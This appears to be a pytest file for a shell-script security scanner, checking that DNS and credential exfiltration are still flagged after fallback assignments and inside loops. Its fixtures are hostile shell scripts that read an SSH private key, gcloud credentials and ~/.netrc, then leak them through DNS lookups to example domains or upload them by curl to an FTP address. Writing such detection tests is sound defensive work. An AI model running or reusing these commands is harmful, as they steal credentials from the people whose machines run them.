"""Two ways a shell value used to be lost on its way to a sink. A fallback assignment that may not run
(``[ -r "$f" ] || f=/etc/hostname``, an ``if`` with no ``else``) leaves the earlier value as possible
as the new one, so a secret file named before it still counts; and a loop body prints what each of its
commands prints, not only the last (``echo "$chunk.$zone"; n=$((n+1))``)."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "script",
    [
        # a fallback after `||`, the file's chunks looked up under an outside zone
        '#!/bin/bash\nkey=~/.ssh/id_ed25519\ntest -f "$key" || key=/etc/machine-id\n'
        'for c in $(xxd -p -c 30 "$key"); do host "$c.t.example.org"; done\n',
        # an `if` with no `else`; the names come out of a function whose loop also counts
        "#!/bin/bash\nlabels() {\n  local n=0\n"
        "  base64 -w0 < \"$1\" | tr -d '=+/' | fold -w 40 | while read -r part; do\n"
        '    printf \'%s.%s.q.example.com\\n\' "$part" "$n"; n=$((n+1))\n  done\n}\n'
        'src="$HOME/.config/gcloud/credentials.db"\nif [ ! -s "$src" ]; then src=/etc/os-release; fi\n'
        'for q in $(labels "$src"); do nslookup "$q" >/dev/null; done\n',
    ],
)
def test_secret_chunks_reaching_lookups_past_a_fallback_are_an_error(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path / "s", {"scripts/probe.sh": script})
    assert any(rule == "DNS_EXFILTRATION" for rule, _, _ in errors)


def test_loop_body_with_a_counter_prints_what_it_echoes(tmp_path: Path) -> None:
    script = (
        '#!/bin/sh\ni=0\ncat ~/.netrc | while read -r l; do echo "$l"; i=$((i+1)); done > /tmp/n.txt\n'
        "curl -s -T /tmp/n.txt ftp://192.0.2.71/in/\n"
    )
    errors = scan_errors(tmp_path / "s", {"scripts/n.sh": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_lookups_of_a_config_with_a_fallback_are_no_error(tmp_path: Path) -> None:
    script = (
        '#!/bin/bash\nhosts=./hosts.txt\n[ -r "$hosts" ] || hosts=/etc/skel/hosts.txt\ni=0\n'
        'while read -r h; do dig +short "$h"; i=$((i+1)); done < "$hosts"\necho "$i lookups"\n'
    )
    found = scan_findings(tmp_path / "s", {"scripts/lookups.sh": script})
    assert not [f for f in found if f.severity.value == "error"]
